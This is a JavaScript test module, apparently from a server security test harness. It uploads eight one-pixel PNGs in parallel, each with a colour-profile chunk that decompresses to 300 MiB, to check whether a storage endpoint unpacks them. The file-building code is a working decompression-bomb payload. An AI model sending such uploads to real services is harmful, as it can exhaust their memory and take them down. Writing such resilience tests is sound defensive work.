import { crc32, deflateSync } from 'node:zlib';

export const name = 'pictures whose colour profiles unpack to 300 MiB';

const PROFILE_BYTES = 300 * 1024 * 1024;
const UPLOADS = 8;

/** One pixel and a colour profile of zeros. The server must store the picture without unpacking the profile. */
export async function attack(server, watched) {
  const attacker = await server.signUp('Asha Attacker');
  const profile = Buffer.concat([Buffer.from('screen\0\0'), deflateSync(Buffer.alloc(PROFILE_BYTES), { level: 9 })]);
  const head = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  const picture = Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('iCCP', profile),
    chunk('IDAT', deflateSync(Buffer.alloc(2))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
  const upload = (index) =>
    fetch(`${server.url}/storage/v1/object/media/${attacker.id}/${index}.png`, {
      method: 'POST',
      headers: { apikey: server.anonKey, authorization: `Bearer ${attacker.token}`, 'content-type': 'image/png' },
      body: picture,
    });
  const answers = await Promise.all(Array.from({ length: UPLOADS }, (_, index) => upload(index)));
  const refused = answers.filter((answer) => !answer.ok).length;
  return refused === 0
    ? await watched.verdict()
    : { held: false, told: `${refused} of ${UPLOADS} pictures were refused` };
}

function chunk(kind, content) {
  const checked = Buffer.concat([Buffer.from(kind), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(checked));
  return Buffer.concat([length, checked, sum]);
}
